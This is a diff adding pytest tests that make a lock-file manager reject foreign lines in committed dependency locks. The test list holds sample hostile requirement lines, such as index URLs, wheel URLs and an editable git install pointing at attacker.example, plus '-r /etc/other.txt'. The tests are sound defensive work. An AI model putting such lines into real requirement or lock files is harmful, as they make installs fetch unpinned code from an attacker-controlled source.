@@ -63,6 +63,40 @@ def test_a_lock_whose_header_matches_is_reused_without_resolving(index, tmp_path
     assert capsys.readouterr().err == ""
 
 
+# Lines a committed lock may not hold: each would make hosts fetch or run something the hashes
+# do not pin (an index, a URL, a local path, an editable install, another file, an option).
+FOREIGN_LINES = [
+    "--index-url http://attacker.example/simple",
+    "--extra-index-url https://attacker.example/simple",
+    "--find-links http://attacker.example/",
+    "--trusted-host attacker.example",
+    "evil @ https://attacker.example/evil-1.0-py3-none-any.whl",
+    "https://attacker.example/evil-1.0-py3-none-any.whl",
+    "-e git+https://attacker.example/evil.git#egg=evil",
+    "-r /etc/other.txt",
+    "evil>=1",
+    "evil==1.0 --hash=sha256:" + "a" * 64,  # hash on the pin's line: pip accepts it, uv never writes it
+    "    --hash=md5:" + "a" * 32,
+]
+
+
+@pytest.mark.parametrize("line", FOREIGN_LINES)
+def test_a_committed_lock_with_anything_but_pins_hashes_and_comments_is_refused_and_resolved_again(
+    index, tmp_path, capsys, line
+):
+    cluster = _spec(index, "gamma")
+    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
+    resolved = store.lock(cluster)
+    capsys.readouterr()
+    store.path.write_text(store.path.read_text() + line + "\n")
+    lock = store.lock(cluster)
+    assert lock is not None and resolved is not None and lock.pins() == resolved.pins()
+    assert locks.parse(store.path.read_text()) == lock and line not in store.path.read_text()
+    err = capsys.readouterr().err
+    assert f"line {len(resolved.text.splitlines()) + 1} " in err and "only name==version" in err, err
+    assert "resolving requirements into" in err
+
+
 def test_a_changed_requirement_resolves_the_lock_again(index, tmp_path, capsys):
     store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
     store.lock(_spec(index, "gamma"))
@@ -133,6 +167,18 @@ def test_a_stack_lock_for_another_platform_is_refused():
     with pytest.raises(InvalidInput, match=r"stack lock is for Python 3.11 on aarch64.*x86_64") as refused:
         render(cluster, lock=arm)
     assert refused.value.exit_code == EXIT_INVALID
+
+
+@pytest.mark.parametrize("line", FOREIGN_LINES[:3])
+def test_a_stack_lock_a_program_passes_with_a_foreign_line_is_refused(line):
+    """`TpuRayClusterArgs.lock` is checked as a committed lock is read: pins, hashes, comments."""
+    cluster = spec.load({"acceleratorType": "v6e-4"}, require_zone=False)
+    base = preset_lock(cluster)
+    assert base is not None
+    with pytest.raises(
+        InvalidInput, match=r"the stack lock cannot be installed: line \d+ is .*only name==version"
+    ):
+        render(cluster, lock=locks.Lock(base.header, base.body + line + "\n"))
 
 
 def test_no_requirements_no_stack_lock(tmp_path):
